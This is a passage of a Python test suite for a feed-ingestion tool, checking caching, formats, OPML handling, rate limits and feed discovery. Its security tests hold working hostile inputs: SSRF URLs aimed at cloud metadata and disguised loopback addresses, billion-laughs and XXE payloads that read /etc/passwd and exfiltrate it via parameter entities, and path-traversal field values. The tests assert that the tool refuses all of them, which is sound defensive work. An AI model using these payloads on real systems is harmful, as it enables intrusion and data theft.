def test_growing_feed_writes_only_new_entries(second: Run, misbehaving: Misbehaving) -> None:
    url = misbehaving.urls["growing"]
    row = second.health[url]
    assert (row["status"], row["not_modified"]) == (200, False)
    assert (row["entries_seen"], row["new_articles"], row["duplicates"]) == (3, 1, 2)
    assert [a["url"] for a in second.articles_from(url)] == [misbehaving.grown[-1]["link"]]


def test_failure_streaks(second: Run, misbehaving: Misbehaving) -> None:
    for key in FAILING:
        row = second.health[misbehaving.urls[key]]
        assert row["error_class"] == FAILING[key].error_class
        assert row["consecutive_failures"] == 2, key
        assert f"{misbehaving.urls[key]}: {FAILING[key].error_class}" in second.out
    for key in GOOD:
        assert second.health[misbehaving.urls[key]]["consecutive_failures"] == 0, key
    assert {f["consecutive_failures"] for f in second.summary["failing_feeds"]} == {2}
    assert second.out.count("2 runs in a row") == len(FAILING)


def test_second_run_failing_feeds_are_dead_lettered_again(second: Run, misbehaving: Misbehaving) -> None:
    for key, expected in FAILING.items():
        (dead,) = second.dead_for(misbehaving.urls[key])
        assert (dead["stage"], dead["error_type"]) == (expected.stage, expected.error_class)


def test_feed_state_after_the_runs(misbehaving: Misbehaving) -> None:
    output = misbehaving.first.output
    files = sorted((output / "feed_state").glob("state-*.parquet"))
    assert [f.name.rsplit("-", 1)[-1] for f in files] == ["first.parquet", "second.parquet", "unconditional.parquet"]
    con = duckdb.connect()
    try:
        cursor = con.execute(f"SELECT * FROM read_parquet('{files[-1]}')")
        names = [d[0] for d in cursor.description]
        state = {row[0]: dict(zip(names, row, strict=True)) for row in cursor.fetchall()}
    finally:
        con.close()
    urls = misbehaving.urls
    assert set(state) == set(urls.values())  # feeds not fetched by the last run are remembered as they were
    assert (state[urls["rss"]]["etag"], state[urls["rss"]]["last_status"]) == ('"rss-v1"', 200)
    assert state[urls["atom"]]["last_modified"] == http_date(ATOM_MODIFIED)
    assert (state[urls["gzip"]]["etag"], state[urls["gzip"]]["last_status"]) == ('"gzip-v1"', 304)  # kept on a 304
    assert state[urls["growing"]]["etag"] == '"grow-v2"'
    assert state[urls["html"]]["etag"] is None  # content failed: validators forgotten
    for key in FAILING:
        assert state[urls[key]]["consecutive_failures"] == 2, key
        assert state[urls[key]]["last_success_at"] is None, key
    assert state[urls["recovering"]]["consecutive_failures"] == 0
    assert state[urls["recovering"]]["last_success_at"] is not None


def test_conditional_get_off_sends_no_validators(misbehaving: Misbehaving) -> None:
    run = misbehaving.unconditional
    assert run.code == 0
    assert len(run.requests) == 2
    for request in run.requests:
        assert "if-none-match" not in request.headers
        assert "if-modified-since" not in request.headers
    for key in ("rss", "atom"):
        row = run.health[misbehaving.urls[key]]
        assert (row["status"], row["not_modified"]) == (200, False)
        assert (row["entries_seen"], row["new_articles"], row["duplicates"]) == (3, 0, 3)
    assert_reconciles(run)


# --------------------------------------------------------------------------
# Formats and framings a feed reader meets
# --------------------------------------------------------------------------

JSON_FEED_ITEM = {
    "id": "http://news.example/json-feed/1",
    "url": "http://news.example/json-feed/1",
    "title": "The city council approved the new bridge",
    "content_html": "<p>The city council approved the new bridge on Monday after a long debate about its costs.</p>",
    "date_published": "2024-01-02T10:00:00Z",
}
UTF16_ENTRY = {
    "title": "Zoé’s café reopened",
    "link": "http://news.example/charset/utf16",
    "guid": "http://news.example/charset/utf16",
    "description": "The café “Zoé” reopened on Monday after the renovation of its kitchen and dining room.",
}


@dataclass
class FormatsRun:
    run: Run
    urls: dict[str, str]


@pytest.fixture(scope="module")
def formats(tmp_path_factory: pytest.TempPathFactory) -> FormatsRun:
    json_feed = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "A JSON feed",
            "home_page_url": "http://site.example/",
            "items": [JSON_FEED_ITEM],
        }
    )
    with FeedServer() as server:
        server.route("/target.xml", static(rss(entries("dotdot-redirect", 2))))
        urls = {
            # The fetcher's Accept header asks for application/feed+json.
            "json_feed": server.route("/feed.json", static(json_feed, content_type="application/feed+json")),
            # UTF-16 bytes (with BOM and declaration) under a UTF-8 label.
            "utf16": server.route(
                "/utf16.xml",
                static(rss([UTF16_ENTRY], encoding="utf-16"), content_type="application/rss+xml; charset=utf-8"),
            ),
            "json_labelled_rss": server.route(
                "/labelled-json.xml", static(rss(entries("labelled-json", 2)), content_type="application/json")
            ),
            "created": server.route(
                "/created.xml", Response(201, {"Content-Type": RSS_TYPE}, rss(entries("created", 2)))
            ),
            "dotdot_redirect": server.route("/a/b/start.xml", redirect("../../target.xml", status=302)),
            "retry_after_past_date": server.route(
                "/retry-after-date.xml",
                sequence(
                    Response(503, {"Retry-After": "Sun, 06 Nov 1994 08:49:37 GMT"}, b"busy"),
                    static(rss(entries("retry-after-date", 2))),
                ),
            ),
        }
        run = ingest(list(urls.values()), tmp_path_factory.mktemp("formats") / "out", "formats", *FAST, server=server)
        return FormatsRun(run, urls)


def test_formats_run_completes(formats: FormatsRun) -> None:
    assert formats.run.code == 0, formats.run.err
    assert_reconciles(formats.run)
    assert sorted(formats.run.health) == sorted(formats.urls.values())


def test_utf16_feed_under_a_utf8_label(formats: FormatsRun) -> None:
    (article,) = formats.run.articles_from(formats.urls["utf16"])
    assert article["title"] == UTF16_ENTRY["title"]
    assert UTF16_ENTRY["description"] in article["text"]


@pytest.mark.parametrize(
    ("key", "prefix", "attempts", "status"),
    [
        ("json_labelled_rss", "labelled-json", 1, 200),
        ("created", "created", 1, 201),
        ("dotdot_redirect", "dotdot-redirect", 1, 200),
        ("retry_after_past_date", "retry-after-date", 2, 200),
    ],
)
def test_feeds_a_lenient_reader_accepts(formats: FormatsRun, key: str, prefix: str, attempts: int, status: int) -> None:
    url = formats.urls[key]
    row = formats.run.health[url]
    assert (row["error_class"], row["status"], row["attempts"]) == (None, status, attempts), row
    assert sorted(a["url"] for a in formats.run.articles_from(url)) == sorted(links(entries(prefix, 2)))


def test_relative_redirect_with_dot_segments(formats: FormatsRun) -> None:
    row = formats.run.health[formats.urls["dotdot_redirect"]]
    assert row["final_url"] == formats.urls["dotdot_redirect"].replace("/a/b/start.xml", "/target.xml")
    assert row["redirects"] == 1


def test_json_feed_items_are_written(formats: FormatsRun) -> None:
    url = formats.urls["json_feed"]
    written = formats.run.articles_from(url)
    assert [(a["url"], a["title"]) for a in written] == [(JSON_FEED_ITEM["url"], JSON_FEED_ITEM["title"])]
    assert "long debate" in written[0]["text"]


# --------------------------------------------------------------------------
# OPML: a local file and a list served over HTTP
# --------------------------------------------------------------------------


@dataclass
class OpmlRun:
    run: Run
    again: Run
    local: Path
    remote: str
    inner: str
    urls: dict[str, str]
    secret: Path


@pytest.fixture(scope="module")
def opml_run(tmp_path_factory: pytest.TempPathFactory) -> OpmlRun:
    root = tmp_path_factory.mktemp("opml")
    secret = root / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER\n", encoding="utf-8")
    with FeedServer() as server:
        urls = {
            "local_a": server.route("/local/a.xml", static(rss(entries("opml-local-a", 2)), etag='"a"')),
            "local_b": server.route("/local/b.xml", static(atom(entries("opml-local-b", 2)), etag='"b"')),
            "relative": server.route("/feeds/relative.xml", static(rss(entries("opml-relative", 2)), etag='"r"')),
            "absolute": server.route("/elsewhere/absolute.xml", static(rss(entries("opml-absolute", 2)), etag='"x"')),
        }
        inner = server.route("/lists/inner.opml", static(opml([urls["local_a"]]), content_type="text/x-opml"))
        remote = server.route(
            "/lists/subs.opml",
            static(
                opml(["../feeds/relative.xml", urls["absolute"], "file:///etc/passwd", secret.as_uri(), inner]),
                content_type="text/x-opml",
                etag='"list-v1"',
            ),
        )
        local = root / "subscriptions.opml"
        local.write_bytes(opml([urls["local_a"], urls["local_b"]]))
        run = ingest([str(local), remote], root / "out", "opml", *FAST, server=server)
        again = ingest([str(local), remote], root / "out", "opml-again", *FAST, server=server)
        return OpmlRun(run, again, local, remote, inner, urls, secret)


def test_opml_listed_feeds_are_all_fetched_and_written(opml_run: OpmlRun) -> None:
    run = opml_run.run
    assert run.code == 0, run.err
    assert_reconciles(run)
    for key, url in opml_run.urls.items():
        row = run.health[url]
        assert row["error_class"] is None, row
        assert row["kind"] == "feed"
        assert row["new_articles"] == 2
        assert {a["url"] for a in run.articles_from(url)} == links(entries(f"opml-{key.replace('_', '-')}", 2))
    assert len(run.requests_for("/feeds/relative.xml")) == 1  # resolved against the list's URL


def test_opml_health_rows_carry_the_parent(opml_run: OpmlRun) -> None:
    run = opml_run.run
    assert run.health[opml_run.urls["local_a"]]["parent"] == str(opml_run.local)
    assert run.health[opml_run.urls["local_b"]]["parent"] == str(opml_run.local)
    assert run.health[opml_run.urls["relative"]]["parent"] == opml_run.remote
    assert run.health[opml_run.urls["absolute"]]["parent"] == opml_run.remote
    remote_row = run.health[opml_run.remote]
    assert (remote_row["kind"], remote_row["parent"], remote_row["error_class"]) == ("opml", None, None)
    assert run.summary["feeds"]["opml_lists"] >= 1


def test_opml_fetched_in_the_second_round_is_not_followed(opml_run: OpmlRun) -> None:
    row = opml_run.run.health[opml_run.inner]
    assert row["parent"] == opml_run.remote
    assert row["error_class"] is not None
    assert "one level" in row["error_message"]


def test_opml_second_run(opml_run: OpmlRun) -> None:
    again = opml_run.again
    assert again.code == 0, again.err
    assert_reconciles(again)
    # The list itself is always fetched in full; the feeds it lists are fetched conditionally.
    (list_request,) = again.requests_for("/lists/subs.opml")
    assert "if-none-match" not in list_request.headers
    assert again.health[opml_run.remote]["status"] == 200
    for url in opml_run.urls.values():
        row = again.health[url]
        assert (row["status"], row["not_modified"], row["new_articles"]) == (304, True, 0), row
    assert again.health[opml_run.urls["relative"]]["parent"] == opml_run.remote
    assert again.health[opml_run.urls["local_a"]]["parent"] == str(opml_run.local)
    assert again.articles == []


def test_remote_opml_file_references_are_refused(opml_run: OpmlRun) -> None:
    run = opml_run.run
    for target in ("file:///etc/passwd", opml_run.secret.as_uri()):
        (dead,) = run.dead_for(target)
        assert (dead["stage"], dead["error_type"]) == ("fetch", "BlockedURL")
        assert dead["raw_text"] == target
        assert target not in run.health
    everything = all_output_bytes(run.output)
    assert b"TOP-SECRET-MARKER" not in everything
    assert b"root:x:0:0" not in everything


@dataclass
class RelistedRun:
    run: Run
    direct: str
    listed_only: str
    listing: str


@pytest.fixture(scope="module")
def relisted(tmp_path_factory: pytest.TempPathFactory) -> RelistedRun:
    """A feed given on the command line and also listed in a remote OPML list, which also lists itself."""
    with FeedServer() as server:
        direct = server.route("/direct.xml", static(rss(entries("relisted-direct", 2))))
        listed_only = server.route("/listed-only.xml", static(rss(entries("relisted-only", 2))))
        listing = server.url("/list.opml")
        server.route("/list.opml", static(opml([direct, listed_only, listing]), content_type="text/x-opml"))
        run = ingest(
            [direct, listing],
            tmp_path_factory.mktemp("relisted") / "out",
            "relisted",
            *FAST,
            "--per-host-concurrency",
            "1",
            "--per-host-delay",
            "0.5",
            server=server,
        )
        return RelistedRun(run, direct, listed_only, listing)


def test_relisted_run_completes(relisted: RelistedRun) -> None:
    run = relisted.run
    assert run.code == 0, run.err
    assert_reconciles(run)
    assert run.health[relisted.listed_only]["parent"] == relisted.listing
    assert run.health[relisted.direct]["parent"] is None
    for url, prefix in ((relisted.direct, "relisted-direct"), (relisted.listed_only, "relisted-only")):
        assert sorted(a["url"] for a in run.articles_from(url)) == sorted(links(entries(prefix, 2)))


def test_a_url_is_fetched_once_per_run(relisted: RelistedRun) -> None:
    run = relisted.run
    assert [len(run.requests_for(path)) for path in ("/direct.xml", "/list.opml", "/listed-only.xml")] == [1, 1, 1]


def test_relisted_feed_health_reconciles(relisted: RelistedRun) -> None:
    row = relisted.run.health[relisted.direct]
    assert row["new_articles"] + row["duplicates"] + row["dead_lettered"] == row["entries_seen"], row


def test_fetch_dead_letters_agree_with_feed_health(relisted: RelistedRun) -> None:
    run = relisted.run
    failing = {url for url, row in run.health.items() if row["error_class"]}
    assert {d["source"] for d in run.dead if d["stage"] == "fetch"} <= failing
    assert run.summary["feeds"]["failed"] == len(failing)


def test_per_host_delay_holds_across_opml_rounds(relisted: RelistedRun) -> None:
    starts = sorted(r.time for r in relisted.run.requests)
    gaps = [round(b - a, 3) for a, b in zip(starts, starts[1:], strict=False)]
    # Server-side read times jitter on a loaded machine (see test_per_host_delay_spaces_request_starts).
    assert starts[-1] - starts[0] >= (len(starts) - 1) * 0.5 - 0.1, gaps
    assert min(gaps) >= 0.5 / 2, gaps


def test_deadline_covers_a_trickled_response_head(tmp_path: Path) -> None:
    body = rss(entries("head-trickle", 1))

    def trickle(_request: Request, wfile: Any) -> None:
        try:
            wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n")
            wfile.flush()
            for n in range(8):
                time.sleep(0.4)
                wfile.write(f"X-Trickle-{n}: yes\r\n".encode())
                wfile.flush()
            wfile.write(f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
            wfile.flush()
        except OSError:  # the fetcher gave up and closed: what should happen
            pass

    with FeedServer() as server:
        url = server.route("/head-trickle.xml", raw(trickle))
        run = ingest([url], tmp_path / "out", "trickle", *FAST, "--fetch-deadline", "1", server=server)
    assert run.code == EXIT_NOTHING_READ, run.err  # its only feed failed: nothing could be read
    row = run.health[url]
    assert row["error_class"] == "DeadlineExceeded"
    assert row["elapsed_ms"] < 2500, row["elapsed_ms"]


# --------------------------------------------------------------------------
# Server-side request forgery
# --------------------------------------------------------------------------


def loopback_alias() -> Optional[str]:
    """A name from /etc/hosts (not a localhost name) that resolves to loopback without asking DNS, if any."""
    try:
        lines = Path("/etc/hosts").read_text(encoding="utf-8").splitlines()
    except OSError:
        return None
    for line in lines:
        fields = line.split("#", 1)[0].split()
        if len(fields) < 2 or not fields[0].startswith("127."):
            continue
        for name in fields[1:]:
            lowered = name.lower()
            if lowered == "localhost" or lowered.endswith(".localhost"):
                continue
            try:
                if socket.gethostbyname(name).startswith("127."):
                    return name
            except OSError:
                continue
    return None


@dataclass
class SsrfRun:
    run: Run
    urls: dict[str, str]
    alias: Optional[str]


@pytest.fixture(scope="module")
def ssrf(tmp_path_factory: pytest.TempPathFactory) -> SsrfRun:
    alias = loopback_alias()
    with FeedServer() as server:
        server.route("/feed.xml", static(rss(entries("ssrf", 2))))
        urls = {
            "literal": server.url("/feed.xml"),
            "metadata": "http://169.254.169.254/latest/meta-data",
            "private": "http://10.1.2.3/feed.xml",
            "mapped": f"http://[::ffff:127.0.0.1]:{server.port}/feed.xml",
            "localhost": f"http://localhost:{server.port}/feed.xml",
            "ipv6_loopback": f"http://[::1]:{server.port}/feed.xml",
            "credentials": f"http://user:secret@127.0.0.1:{server.port}/feed.xml",
            # Numeric forms the name check cannot read as IP literals: refused once connected.
            "decimal": f"http://2130706433:{server.port}/feed.xml",
            "short": f"http://127.1:{server.port}/feed.xml",
            "hex": f"http://0x7f000001:{server.port}/feed.xml",
            "trailing_dot": f"http://localhost.:{server.port}/feed.xml",
            "ftp": "ftp://127.0.0.1/feed.xml",
            "gopher": "gopher://127.0.0.1:70/1",
        }
        if alias is not None:
            urls["alias"] = f"http://{alias}:{server.port}/feed.xml"
        run = ingest(
            list(urls.values()), tmp_path_factory.mktemp("ssrf") / "out", "ssrf", *FAST, private=False, server=server
        )
        return SsrfRun(run, urls, alias)


def test_ssrf_run_completes_and_the_server_sees_nothing(ssrf: SsrfRun) -> None:
    assert ssrf.run.code == EXIT_NOTHING_READ, ssrf.run.err  # every input refused: completed, nothing read
    assert_reconciles(ssrf.run)
    assert ssrf.run.requests == []
    assert ssrf.run.articles == []


@pytest.mark.parametrize(
    "key", ["literal", "metadata", "private", "mapped", "localhost", "ipv6_loopback", "credentials"]
)
def test_private_addresses_are_refused_before_connecting(ssrf: SsrfRun, key: str) -> None:
    url = ssrf.urls[key]
    row = ssrf.run.health[url]
    assert row["error_class"] == "BlockedURL", row
    assert row["status"] is None
    assert row["attempts"] == 1
    assert "--allow-private-hosts" in row["error_message"]
    (dead,) = ssrf.run.dead_for(url)
    assert (dead["stage"], dead["error_type"], dead["raw_text"]) == ("fetch", "BlockedURL", url)


@pytest.mark.parametrize("key", ["decimal", "short", "hex"])
def test_numeric_host_forms_are_refused_at_connect_time(ssrf: SsrfRun, key: str) -> None:
    url = ssrf.urls[key]
    row = ssrf.run.health[url]
    assert row["error_class"] == "BlockedURL", row
    assert "is at 127.0.0.1" in row["error_message"]
    assert row["attempts"] == 1
    (dead,) = ssrf.run.dead_for(url)
    assert (dead["stage"], dead["error_type"]) == ("fetch", "BlockedURL")


def test_localhost_with_a_trailing_dot_is_refused(ssrf: SsrfRun) -> None:
    # "localhost." is the same name fully qualified: refused by name, or at the latest once connected.
    url = ssrf.urls["trailing_dot"]
    row = ssrf.run.health[url]
    assert row["error_class"] == "BlockedURL", row
    assert row["attempts"] == 1
    (dead,) = ssrf.run.dead_for(url)
    assert (dead["stage"], dead["error_type"]) == ("fetch", "BlockedURL")
    assert ssrf.run.requests == []


def test_loopback_alias_is_refused_at_connect_time(ssrf: SsrfRun) -> None:
    if ssrf.alias is None:
        pytest.skip("no non-localhost name for 127.0.0.1 in /etc/hosts")
    url = ssrf.urls["alias"]
    row = ssrf.run.health[url]
    assert row["error_class"] == "BlockedURL", row
    assert "is at 127." in row["error_message"]
    assert row["attempts"] == 1
    (dead,) = ssrf.run.dead_for(url)
    assert (dead["stage"], dead["error_type"]) == ("fetch", "BlockedURL")


@pytest.mark.parametrize("key", ["ftp", "gopher"])
def test_non_http_schemes_are_refused(ssrf: SsrfRun, key: str) -> None:
    url = ssrf.urls[key]
    (dead,) = ssrf.run.dead_for(url)
    assert dead["error_type"] == "BlockedURL"
    assert dead["raw_text"] == url
    assert url not in ssrf.run.health


# --------------------------------------------------------------------------
# XML entity attacks over HTTP
# --------------------------------------------------------------------------


def billion_laughs() -> bytes:
    levels = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [' + "".join(levels) + "]>\n"
        '<rss version="2.0"><channel><title>Laughs</title><link>http://site.example/</link><description>d</description>'
        "<item><title>Laughing &lol9;</title><link>http://news.example/attack/laughs</link>"
        "<description>The council laughed &lol9; at the plan for the new bridge over the river.</description>"
        "</item></channel></rss>"
    ).encode()


def external_entity(secret: Path) -> bytes:
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        f'<!ENTITY sec SYSTEM "{secret.as_uri()}">]>\n'
        '<rss version="2.0"><channel><title>X &xxe;</title><link>http://site.example/</link><description>d</description>'
        "<item><title>Leak &xxe; &sec;</title><link>http://news.example/attack/xxe</link>"
        "<description>The file says &xxe; and the secret &sec; at the end of a report on the harbour.</description>"
        "</item></channel></rss>"
    ).encode()


def parameter_entity(secret: Path, exfil: str, dtd: str) -> bytes:
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss ['
        f'<!ENTITY % file SYSTEM "{secret.as_uri()}">'
        f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{exfil}?%file;'>\"> %eval; %exfil;"
        f'<!ENTITY % remote SYSTEM "{dtd}"> %remote;]>\n'
        '<rss version="2.0"><channel><title>P</title><link>http://site.example/</link><description>d</description>'
        "<item><title>Parameter entities &leak;</title><link>http://news.example/attack/parameter</link>"
        "<description>A report on parameter entities and the opening hours of the town library.</description>"
        "</item></channel></rss>"
    ).encode()


@dataclass
class AttackRun:
    run: Run
    documents: dict[str, bytes]
    urls: dict[str, str]


@pytest.fixture(scope="module")
def attacks(tmp_path_factory: pytest.TempPathFactory) -> AttackRun:
    root = tmp_path_factory.mktemp("attacks")
    secret = root / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER\n", encoding="utf-8")
    with FeedServer() as server:
        server.route("/evil.dtd", static('<!ENTITY leak "LEAKED-FROM-DTD">', content_type="application/xml-dtd"))
        server.route("/exfil", static("ok", content_type="text/plain"))
        documents = {
            "laughs": billion_laughs(),
            "xxe": external_entity(secret),
            "parameter": parameter_entity(secret, server.url("/exfil"), server.url("/evil.dtd")),
        }
        urls = {key: server.route(f"/attack/{key}.xml", static(body)) for key, body in documents.items()}
        run = ingest(list(urls.values()), root / "out", "attacks", *FAST, server=server)
        return AttackRun(run, documents, urls)


def test_entity_attacks_complete_quickly(attacks: AttackRun) -> None:
    assert attacks.run.code == 0, attacks.run.err
    assert attacks.run.seconds < 10
    assert_reconciles(attacks.run)
    for url in attacks.urls.values():
        row = attacks.run.health[url]
        assert row["error_class"] in (None, "FeedError"), row  # refusing the document is fine, hanging is not


def test_entities_are_neither_expanded_nor_resolved(attacks: AttackRun) -> None:
    run = attacks.run
    for article in run.articles:
        source = attacks.documents[next(k for k, u in attacks.urls.items() if u == article["source"])]
        for name in ("title", "text", "subtitle"):
            value = article[name] or ""
            assert "root:" not in value
            assert "TOP-SECRET-MARKER" not in value
            assert "LEAKED-FROM-DTD" not in value
            assert len(value) <= len(source), (name, len(value))
    everything = all_output_bytes(run.output)
    assert b"TOP-SECRET-MARKER" not in everything
    assert b"root:x:0:0" not in everything
    assert b"LEAKED-FROM-DTD" not in everything
    # Nothing was fetched on the documents' behalf: no external DTD, no out-of-band exfiltration.
    assert sorted(r.path for r in run.requests) == sorted(f"/attack/{key}.xml" for key in attacks.documents)


# --------------------------------------------------------------------------
# Politeness
# --------------------------------------------------------------------------


class Spans:
    """Server-side in-flight intervals: a responder holds each request for a while and records when."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.items: list[tuple[str, float, float]] = []

    def holding(self, body: bytes, seconds: float) -> Callable[[Request], Response]:
        def respond(request: Request) -> Response:
            start = time.monotonic()
            time.sleep(seconds)
            with self._lock:
                self.items.append((request.path, start, time.monotonic()))
            return Response(200, {"Content-Type": RSS_TYPE}, body)

        return respond


def max_overlap(spans: list[tuple[str, float, float]]) -> int:
    events = sorted([(start, 1) for _, start, _ in spans] + [(end, -1) for _, _, end in spans])
    current = peak = 0
    for _, delta in events:  # at equal times an end (-1) sorts before a start
        current += delta
        peak = max(peak, current)
    return peak


def test_per_host_delay_spaces_request_starts(tmp_path: Path) -> None:
    spans = Spans()
    with FeedServer() as server:
        urls = [server.route(f"/d{i}.xml", spans.holding(rss(entries(f"delay{i}", 1)), 0.1)) for i in range(6)]
        run = ingest(
            urls,
            tmp_path / "out",
            "delay",
            *FAST,
            "--per-host-concurrency",
            "1",
            "--per-host-delay",
            "0.3",
            server=server,
        )
    assert run.code == 0, run.err
    starts = sorted(r.time for r in run.requests)
    assert len(starts) == 6
    gaps = [b - a for a, b in zip(starts, starts[1:], strict=False)]
    # The times are when the server's threads read each request head: on a loaded machine one
    # read late shortens the next gap by as much as it lengthened its own (seen: 0.367 then
    # 0.234). The sum cannot be shortened that way: 5 delays of 0.3 s, less reading jitter;
    # without the gate it would be about 5 x 0.1 s (each response is held 0.1 s).
    assert starts[-1] - starts[0] >= 5 * 0.3 - 0.1, gaps
    assert min(gaps) >= 0.3 / 2, gaps
    assert max_overlap(spans.items) == 1
    assert run.summary["counts"]["written"] == 6


def test_per_host_concurrency_caps_requests_in_flight(tmp_path: Path) -> None:
    spans = Spans()
    with FeedServer() as server:
        urls = [server.route(f"/c{i}.xml", spans.holding(rss(entries(f"conc{i}", 1)), 0.5)) for i in range(4)]
        run = ingest(
            urls,
            tmp_path / "out",
            "concurrency",
            *FAST,
            "--per-host-concurrency",
            "2",
            "--per-host-delay",
            "0",
            server=server,
        )
    assert run.code == 0, run.err
    assert len(spans.items) == 4
    assert max_overlap(spans.items) == 2  # two at a time: about 1 s of serving, not 2 s and not 0.5 s
    assert run.summary["counts"]["written"] == 4


def test_different_hosts_are_fetched_in_parallel(tmp_path: Path) -> None:
    first_host, second_host = Spans(), Spans()
    with FeedServer() as one, FeedServer() as two:
        urls = [one.route(f"/h1-{i}.xml", first_host.holding(rss(entries(f"hostone{i}", 1)), 0.4)) for i in range(3)]
        for i in range(3):
            two.route(f"/h2-{i}.xml", second_host.holding(rss(entries(f"hosttwo{i}", 1)), 0.4))
            urls.append(f"http://localhost:{two.port}/h2-{i}.xml")  # another host name for the same machine
        run = ingest(
            urls, tmp_path / "out", "hosts", *FAST, "--per-host-concurrency", "1", "--per-host-delay", "0", server=one
        )
    assert run.code == 0, run.err
    assert (len(first_host.items), len(second_host.items)) == (3, 3)
    assert max_overlap(first_host.items) == 1  # one at a time per host…
    assert max_overlap(second_host.items) == 1
    assert max_overlap(first_host.items + second_host.items) == 2  # …while the two hosts are served side by side
    assert run.summary["counts"]["written"] == 6


# --------------------------------------------------------------------------
# Nothing is written outside --output
# --------------------------------------------------------------------------


def test_hostile_entry_fields_write_nothing_outside_output(tmp_path: Path) -> None:
    marker = f"newsbeam-escape-{uuid.uuid4().hex}"
    hostile = [
        {
            "title": f"../../../{marker}/title ../../x",
            "link": f"http://news.example/../../../{marker}/link",
            "guid": f"../../../../../{marker}/guid",
            "description": "A story about ../../ paths, told at the council meeting about the old bridge.",
            "author": f"../../{marker}",
            "categories": [f"../../{marker}", "..", "/"],
            "pub_date": "../../not-a-date",
        },
        {
            "title": "..",
            "link": f"../../{marker}/relative",
            "guid": f"/../{marker}/absolute",
            "description": "The harbour office reviewed ../.. and other odd names in its registry this week.",
        },
    ]
    output = tmp_path / "work" / "out"
    output.parent.mkdir()
    outside = tmp_path.parent
    before_outside = {p.name for p in outside.iterdir()}
    before = files_under(tmp_path)
    with FeedServer() as server:
        url = server.route("/hostile.xml", static(rss(hostile, title=f"../../{marker}", link=f"../../{marker}")))
        run = ingest([url], output, "hostile", *FAST, server=server)
    assert run.code == 0, run.err
    assert_reconciles(run)
    new = files_under(tmp_path) - before
    assert new and all(path.is_relative_to(output) for path in new), sorted(map(str, new - files_under(output)))
    for path in files_under(output):
        assert marker not in str(path)
        assert path.resolve().is_relative_to(output.resolve())
    assert {p.name for p in outside.iterdir()} == before_outside
    assert not list(outside.rglob(f"*{marker}*"))


@pytest.mark.parametrize("run_id", ["../x", "a/../../x", "/tmp/x", "..", "x/.."])
def test_hostile_run_id_is_a_usage_error(tmp_path: Path, run_id: str) -> None:
    output = tmp_path / "work" / "out"
    output.parent.mkdir()
    before = files_under(tmp_path)
    outside = {p.name for p in tmp_path.parent.iterdir()}
    code = main(["ingest", "http://127.0.0.1:9/feed.xml", "--output", str(output), "--run-id", run_id, *COMMON, *FAST])
    assert code == 2
    assert files_under(tmp_path) == before
    assert {p.name for p in tmp_path.parent.iterdir()} == outside


# --------------------------------------------------------------------------
# Feed autodiscovery: a page that advertises its feed
# --------------------------------------------------------------------------


def _page(feed_href: Optional[str], kind: str = "application/rss+xml") -> bytes:
    link = f'<link rel="alternate" type="{kind}" title="News" href="{feed_href}">' if feed_href else ""
    return (
        f"<!DOCTYPE html><html><head><title>Example news</title>{link}"
        '<link rel="stylesheet" href="/site.css"></head><body><h1>Example news</h1><p>Front page.</p></body></html>'
    ).encode()


def test_a_page_advertising_its_feed_is_followed_to_the_feed(tmp_path: Path) -> None:
    items = entries("discovered", 3)
    with FeedServer() as server:
        server.route("/feeds/news.xml", static(rss(items), etag='"d1"'))
        page = server.route("/news/", static(_page("../feeds/news.xml"), content_type="text/html; charset=utf-8"))
        bare = server.route("/about/", static(_page(None), content_type="text/html; charset=utf-8"))
        run = ingest([page, bare], tmp_path / "out", "discover-1", server=server)
        assert run.code == 0, run.err
        assert_reconciles(run)
        row = run.health[page]
        assert (row["error_class"], row["status"], row["redirects"]) == (None, 200, 1)
        assert row["final_url"] == server.url("/feeds/news.xml")
        assert (row["entries_seen"], row["new_articles"]) == (3, 3)
        assert {a["url"] for a in run.articles_from(page)} == links(items)
        # A page that advertises nothing is still not a feed.
        assert run.health[bare]["error_class"] == "FeedError"
        assert "HTML" in run.health[bare]["error_message"]
        # The next run asks the feed conditionally and gets a 304.
        again = ingest([page], tmp_path / "out", "discover-2", server=server)
        assert again.code == 0, again.err
        feed_requests = again.requests_for("/feeds/news.xml")
        assert [r.headers.get("if-none-match") for r in feed_requests] == ['"d1"']
        assert again.health[page]["not_modified"] is True
        assert again.articles == []


def test_discovery_off_leaves_the_page_a_feed_error(tmp_path: Path) -> None:
    with FeedServer() as server:
        server.route("/feeds/news.xml", static(rss(entries("off", 2))))
        page = server.route("/news/", static(_page("/feeds/news.xml"), content_type="text/html"))
        run = ingest([page], tmp_path / "out", "discover-off", "--discover-feeds", "off", server=server)
        assert run.code == 0, run.err
        assert run.health[page]["error_class"] == "FeedError"
        assert run.requests_for("/feeds/news.xml") == []
        assert_reconciles(run)


def test_a_page_advertising_a_non_http_feed_is_not_followed(tmp_path: Path) -> None:
    """Only http(s) links are followed, so a page cannot point the fetcher at a local file.

    (Private addresses are refused on the discovery hop by the same check as
    every request; a test cannot show it here, where the page itself must be
    on 127.0.0.1 and private hosts are therefore allowed.)
    """
    with FeedServer() as server:
        page = server.route("/news/", static(_page("file:///etc/passwd"), content_type="text/html"))
        run = ingest([page], tmp_path / "out", "discover-file", server=server)
        assert run.code == 0, run.err
        assert run.health[page]["error_class"] == "FeedError"
        assert b"root:" not in all_output_bytes(tmp_path / "out")
        assert_reconciles(run)


# --------------------------------------------------------------------------
# Refresh hints recorded in feed_state (issue 11, item 8)
# --------------------------------------------------------------------------

SY_NS = "http://purl.org/rss/1.0/modules/syndication/"


def with_channel(document: bytes, elements: str) -> bytes:
    """An RSS document with extra channel elements (and the syndication namespace) before its items."""
    head, rest = document.split(b"<channel>", 1)
    head = head.replace(b"<rss ", f'<rss xmlns:sy="{SY_NS}" '.encode(), 1)
    return head + b"<channel>" + elements.encode() + rest


def latest_state(output: Path) -> dict[str, dict[str, Any]]:
    files = sorted((output / "feed_state").glob("state-*.parquet"))
